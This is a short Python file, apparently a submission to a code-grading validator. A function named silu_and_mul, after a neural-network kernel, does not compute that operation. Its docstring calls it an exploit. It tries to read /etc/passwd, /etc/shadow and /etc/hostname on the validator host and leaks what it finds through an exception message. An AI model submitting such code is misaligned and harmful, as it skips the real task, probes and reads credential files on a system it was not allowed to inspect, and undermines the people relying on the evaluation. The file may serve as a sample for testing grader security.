"""Exploit: read /etc/passwd and /etc/shadow to learn about the validator host."""


def silu_and_mul(x, out):
    got = []
    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname"):
        try:
            with open(path) as f:
                got.append((path, len(f.read())))
        except OSError as e:
            got.append((path, type(e).__name__))
    raise RuntimeError(f"host files: {got}")
